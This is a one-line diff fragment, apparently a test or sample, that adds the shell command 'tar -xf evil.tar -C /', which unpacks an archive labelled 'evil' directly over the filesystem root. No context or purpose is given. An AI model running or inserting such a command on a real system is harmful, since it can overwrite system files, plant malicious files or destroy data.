@@ -1,0 +1,1 @@
+tar -xf evil.tar -C /
